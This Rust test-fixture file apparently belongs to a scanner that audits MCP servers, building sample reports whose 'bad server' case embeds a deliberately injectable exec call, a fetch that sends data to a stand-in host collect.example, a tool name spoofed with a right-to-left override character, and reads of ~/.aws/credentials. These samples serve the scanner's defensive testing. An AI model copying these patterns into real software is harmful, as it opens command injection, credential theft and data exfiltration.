//! Reports made by hand: a clean server, one with findings and odd characters, and one of which nothing could be read.

use std::collections::BTreeMap;
use std::sync::Arc;

use serde_json::{Value, json};
use tidewaiter::analysis::facts::*;
use tidewaiter::manifest::{Declaration, DeclaredKind};
use tidewaiter::report::{CheckInfo, Context, Report, Target, format};
use tidewaiter::rule::{Confidence, Finding, Severity};
use tidewaiter::score::{CoverageLevel, Exposure, LedgerEntry, Score};

pub(crate) fn place(file: &str, line: u32, column: u32, end_column: u32) -> Place {
    Place { file: file.into(), line, column, end_line: line, end_column }
}

pub(crate) fn step(file: &str, line: u32, what: &str) -> Step {
    Step { place: place(file, line, 3, 12), what: what.to_owned() }
}

pub(crate) fn check(id: &str, name: &str, severity: Severity, confidence: Confidence, cwe: &[&str]) -> CheckInfo {
    CheckInfo {
        id: id.to_owned(),
        name: name.to_owned(),
        summary: format!("{name}."),
        description: format!("{name}: what the code does and what the manifests say differ."),
        help_markdown: format!("# {name}\n\nSay it in a manifest, or stop doing it."),
        severity,
        confidence,
        cwe: cwe.iter().map(|id| (*id).to_owned()).collect(),
        tags: vec!["mcp".to_owned()],
    }
}

pub(crate) fn checks() -> Vec<CheckInfo> {
    vec![
        check("undeclared-network", "Undeclared host", Severity::Medium, Confidence::High, &["CWE-912"]),
        check("command-injection", "Command injection", Severity::Critical, Confidence::High, &["CWE-78", "CWE-77"]),
        check("undeclared-environment", "Undeclared variable", Severity::Medium, Confidence::Medium, &["CWE-526"]),
        check("overdeclared-network", "Host declared and not used", Severity::Info, Confidence::High, &[]),
        check("dynamic-code", "Code made at run time", Severity::High, Confidence::Medium, &["CWE-95"]),
    ]
}

pub(crate) fn context(checks: &[CheckInfo], width: usize, color: bool) -> Context<'_> {
    Context {
        scanner_name: "tidewaiter",
        scanner_version: "0.1.0",
        rules_digest: "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        checks,
        color,
        width,
        exit_code: Some(0),
        several: false,
    }
}

pub(crate) fn render(name: &str, reports: &[Report]) -> String {
    render_at(name, reports, 100, false)
}

pub(crate) fn render_at(name: &str, reports: &[Report], width: usize, color: bool) -> String {
    let checks = checks();
    let mut out = Vec::new();
    let format = format(name).expect("the format exists");
    (format.render)(reports, &context(&checks, width, color), &mut out).expect("writes to memory");
    String::from_utf8(out).expect("is UTF-8")
}

pub(crate) fn render_json(name: &str, reports: &[Report]) -> Value {
    serde_json::from_str(&render(name, reports)).expect("is JSON")
}

pub(crate) fn tool(name: &str, handler: Option<Place>, capabilities: &[u32]) -> Tool {
    Tool {
        name: name.to_owned(),
        title: None,
        description: Some(format!("Does {name}.")),
        annotations: serde_json::Map::new(),
        input_schema: json!({"type": "object"}),
        extra: serde_json::Value::Null,
        location: Some(place("src/index.ts", 10, 3, 20)),
        handler,
        conditional: false,
        capabilities: capabilities.to_vec(),
    }
}

#[allow(clippy::too_many_arguments)]
pub(crate) fn capability(
    id: u32,
    kind: CapabilityKind,
    access: Access,
    target: &str,
    target_kind: TargetKind,
    declared: Declared,
    reach: Reach,
    tools: &[&str],
) -> Capability {
    Capability {
        id,
        kind,
        access,
        target: target.to_owned(),
        target_kind,
        target_from: if target_kind == TargetKind::Dynamic { TargetFrom::Argument } else { TargetFrom::Constant },
        secret: kind == CapabilityKind::Environment,
        declared,
        reach,
        tools: tools.iter().map(|name| (*name).to_owned()).collect(),
        location: place("src/index.ts", 20 + id, 5, 30),
        steps: Vec::new(),
        arguments: Vec::new(),
        variables: Vec::new(),
    }
}

/// Nothing is wrong, everything was seen.
pub(crate) fn clean_server() -> Report {
    use {Access::*, CapabilityKind::*, Declared::*, TargetKind::*};
    let mut tools = vec![tool("get_forecast", Some(place("src/index.ts", 14, 5, 60)), &[0])];
    for name in ["list_units", "list_alerts", "describe_station"] {
        tools.push(tool(name, Some(place("src/index.ts", 30, 5, 60)), &[]));
    }
    Report {
        target: Target {
            spec: "weather".to_owned(),
            kind: "directory".to_owned(),
            name: Some("weather-mcp".to_owned()),
            configured_as: None,
            also_named: Vec::new(),
            version: Some("1.4.2".to_owned()),
            digest: "sha256:aa".to_owned(),
        },
        server: ServerFacts {
            languages: vec!["typescript".to_owned()],
            transports: vec!["stdio".to_owned()],
            instructions: None,
            tools,
            tools_complete: true,
            tools_incomplete_because: Vec::new(),
            prompts: Vec::new(),
            resources: vec![Offer { name: "stations".to_owned(), location: Some(place("src/index.ts", 40, 1, 9)), ..Offer::default() }],
            capabilities: vec![
                capability(0, Network, Connect, "api.weather.gov", Constant, Yes, Reach::Tool, &["get_forecast"]),
                capability(1, Environment, Read, "WEATHER_UNITS", Constant, Unspecified, Reach::Startup, &[]),
            ],
            coverage: Coverage { files_total: 3, files_parsed: 3, bytes_parsed: 4_000, ..Default::default() },
            speaks_mcp: true,
            ..ServerFacts::default()
        },
        declarations: vec![Declaration {
            source: "toolhive".to_owned(),
            file: "profile.json".to_owned(),
            path: "/network/outbound/allow_host/0".to_owned(),
            location: place("profile.json", 5, 7, 24),
            kind: DeclaredKind::Network,
            access: Some(Connect),
            target: "api.weather.gov".to_owned(),
            secret: false,
            required: false,
            implied: false,
        }],
        findings: Vec::new(),
        score: Score {
            formula: "mts-1".to_owned(),
            value: Some(100),
            grade: "A".to_owned(),
            exposure: Exposure::Low,
            coverage: CoverageLevel::Complete,
            ledger: Vec::new(),
        },
        trifecta: Default::default(),
        together: None,
        sources: BTreeMap::new(),
    }
}

/// Findings of several kinds, with steps, hidden characters and a long line.
pub(crate) fn bad_server() -> Report {
    use {Access::*, CapabilityKind::*, Declared::*, TargetKind::*};
    let git = "import { exec } from 'node:child_process';\n\nexport function runGit(args: string) {\n\treturn exec(`git ${args}`);\n}\n";
    let long = format!("{}fetch('https://collect.example/'+t){}\n", "var a=1;".repeat(300), ";b()".repeat(300));
    let sources = BTreeMap::from([("src/git.ts".to_owned(), Arc::from(git)), ("dist/long line.js".to_owned(), Arc::from(long.as_str()))]);
    let handler = || Some(place("src/index.ts", 14, 5, 60));
    let mut findings = vec![
        Finding {
            rule: "undeclared-network".to_owned(),
            severity: Severity::Medium,
            confidence: Confidence::High,
            cwe: vec!["CWE-912".to_owned()],
            message: "The tool sends to collect.example, which profile.json does not list. Whoever allows the server by its manifest does not \
                      know of it. Declare the host, or do not send there."
                .to_owned(),
            location: place("dist/long line.js", 1, 2_401, 2_436),
            related: vec![Step { place: place("profile.json", 5, 7, 24), what: "the hosts that are declared".to_owned() }],
            steps: Vec::new(),
            tools: vec!["sync".to_owned()],
            fingerprint: "tidewaiter/1:1111".to_owned(),
        },
        Finding {
            rule: "command-injection".to_owned(),
            severity: Severity::Critical,
            confidence: Confidence::High,
            cwe: vec!["CWE-78".to_owned(), "CWE-77".to_owned()],
            message: "The argument [args] of run\u{202e}git becomes part of a command line. Whoever writes the prompt runs commands. Pass the \
                      arguments as a list to execFile."
                .to_owned(),
            location: place("src/git.ts", 4, 9, 28),
            related: Vec::new(),
            steps: vec![
                step("src/index.ts", 14, "run\u{202e}git passes args to runGit"),
                Step { place: place("src/git.ts", 4, 9, 28), what: "runGit runs a shell with it".to_owned() },
            ],
            tools: vec!["run\u{202e}git".to_owned()],
            fingerprint: "tidewaiter/1:2222".to_owned(),
        },
        Finding {
            rule: "overdeclared-network".to_owned(),
            severity: Severity::Info,
            confidence: Confidence::High,
            cwe: Vec::new(),
            message: "The host unused.example is declared and never used.".to_owned(),
            location: place("profile.json", 6, 7, 23),
            related: Vec::new(),
            steps: Vec::new(),
            tools: Vec::new(),
            fingerprint: "tidewaiter/1:3333".to_owned(),
        },
    ];
    for number in 0..8 {
        findings.push(Finding {
            rule: "undeclared-environment".to_owned(),
            severity: Severity::Medium,
            confidence: Confidence::Medium,
            cwe: vec!["CWE-526".to_owned()],
            message: format!("The variable SECRET_{number} is read and no manifest names it."),
            location: place("src/config.ts", 3 + number, 10, 30),
            related: Vec::new(),
            steps: Vec::new(),
            tools: Vec::new(),
            fingerprint: format!("tidewaiter/1:44{number}"),
        });
    }
    let mut capabilities = vec![
        capability(0, Process, Spawn, "git", Prefix, No, Reach::Tool, &["run\u{202e}git"]),
        capability(1, Network, Connect, "collect.example", Constant, No, Reach::Tool, &["sync"]),
        capability(2, Network, Connect, "*.api.example", Prefix, Yes, Reach::Tool, &["sync"]),
        capability(3, Filesystem, Write, "*", Dynamic, Unspecified, Reach::Tool, &["sync"]),
        capability(4, Filesystem, Delete, "/tmp/cache", Constant, Unspecified, Reach::Tool, &["sync"]),
        capability(5, Network, Listen, "127.0.0.1", Constant, Unspecified, Reach::Startup, &[]),
        capability(6, Credential, Read, "~/.aws/credentials", Constant, No, Reach::Startup, &[]),
        capability(7, Code, Evaluate, "*", Dynamic, Unspecified, Reach::Unreached, &[]),
    ];
    for number in 0..10 {
        capabilities.push(capability(8 + number, Environment, Read, &format!("SECRET_{number}"), Constant, No, Reach::Startup, &[]));
    }
    let mut tools = vec![
        tool("run\u{202e}git", handler(), &[0]),
        tool("sync", handler(), &[1, 2, 3, 4]),
        tool("made_at_run_time", None, &[]),
        tool("a_tool_with_a_name_that_is_much_longer_than_anybody_wants_to_read", handler(), &[]),
    ];
    for number in 0..12 {
        tools.push(tool(&format!("read_page_{number}"), handler(), &[]));
    }
    let unresolved = |line, what: &str, weight| Unresolved { location: place("src/index.ts", line, 1, 10), what: what.to_owned(), weight };
    Report {
        target: Target {
            spec: "notes".to_owned(),
            kind: "directory".to_owned(),
            name: Some("@scope/Notes MCP".to_owned()),
            configured_as: None,
            also_named: Vec::new(),
            version: Some("2.0.0".to_owned()),
            digest: "sha256:bb".to_owned(),
        },
        server: ServerFacts {
            languages: vec!["typescript".to_owned()],
            transports: vec!["http".to_owned(), "stdio".to_owned()],
            instructions: Some("Use with care.".to_owned()),
            tools,
            tools_complete: false,
            tools_incomplete_because: vec!["tools are registered in a loop over a value that is not known (src/index.ts:80)".to_owned()],
            prompts: Vec::new(),
            resources: Vec::new(),
            capabilities,
            coverage: Coverage {
                files_total: 12,
                files_parsed: 11,
                files_skipped: vec![SkippedFile { file: "vendor/big.js".to_owned(), reason: "larger than 4 MiB".to_owned() }],
                unresolved: vec![
                    unresolved(90, "a library without a model", Weight::Note),
                    unresolved(70, "the handler of made_at_run_time was not found", Weight::Partial),
                ],
                bytes_parsed: 40_000,
                bytes_in_errors: 120,
            },
            speaks_mcp: true,
            ..ServerFacts::default()
        },
        declarations: Vec::new(),
        findings,
        score: Score {
            formula: "mts-1".to_owned(),
            value: Some(31),
            grade: "F".to_owned(),
            exposure: Exposure::Critical,
            coverage: CoverageLevel::Partial,
            ledger: vec![
                LedgerEntry {
                    rule: "command-injection".to_owned(),
                    place: Some("src/git.ts:4".to_owned()),
                    what: "Command injection".to_owned(),
                    points: 60,
                },
                LedgerEntry {
                    rule: "undeclared-network".to_owned(),
                    place: Some("dist/long line.js:1".to_owned()),
                    what: "Undeclared host".to_owned(),
                    points: 5,
                },
                LedgerEntry { rule: "cap".to_owned(), place: None, what: "any critical finding: at most 39".to_owned(), points: 0 },
            ],
        },
        trifecta: Default::default(),
        together: None,
        sources,
    }
}

/// Nothing could be parsed.
pub(crate) fn unreadable_server() -> Report {
    Report {
        target: Target { spec: "packed".to_owned(), kind: "directory".to_owned(), digest: "sha256:cc".to_owned(), ..Target::default() },
        server: ServerFacts {
            tools_complete: false,
            tools_incomplete_because: vec!["no code could be read".to_owned()],
            coverage: Coverage {
                files_total: 2,
                files_parsed: 0,
                files_skipped: vec![
                    SkippedFile { file: "dist/a.js".to_owned(), reason: "nested deeper than 500 levels".to_owned() },
                    SkippedFile { file: "dist/b.js".to_owned(), reason: "not text".to_owned() },
                ],
                ..Default::default()
            },
            ..Default::default()
        },
        declarations: Vec::new(),
        findings: Vec::new(),
        score: Score {
            formula: "mts-1".to_owned(),
            value: None,
            grade: "?".to_owned(),
            exposure: Exposure::None,
            coverage: CoverageLevel::None,
            ledger: vec![LedgerEntry { rule: "coverage".to_owned(), place: None, what: "nothing was parsed: no score".to_owned(), points: 0 }],
        },
        trifecta: Default::default(),
        together: None,
        sources: BTreeMap::new(),
    }
}

pub(crate) fn all() -> Vec<Report> {
    vec![clean_server(), bad_server(), unreadable_server()]
}

/// A finding of `rule` at a line, for tests that need many.
pub(crate) fn finding(rule: &str, severity: Severity, line: u32) -> Finding {
    Finding {
        rule: rule.to_owned(),
        severity,
        confidence: Confidence::High,
        cwe: Vec::new(),
        message: format!("Number {line}."),
        location: place("src/many.ts", line, 1, 5),
        related: Vec::new(),
        steps: Vec::new(),
        tools: Vec::new(),
        fingerprint: format!("tidewaiter/1:{line}"),
    }
}
